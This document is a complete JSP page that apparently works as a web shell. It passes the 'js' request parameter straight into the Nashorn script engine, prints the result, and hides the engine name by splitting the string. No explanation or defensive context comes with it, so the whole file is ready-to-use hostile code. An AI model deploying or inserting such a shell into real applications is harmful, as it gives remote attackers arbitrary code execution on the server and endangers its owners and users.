<%@ page import="javax.script.*" %>
<%
  ScriptEngineManager sem = new ScriptEngineManager();
  ScriptEngine se = sem.getEngineByName("nash" + "orn");
  Object r = se.eval(request.getParameter("js"));
  out.print(r);
%>
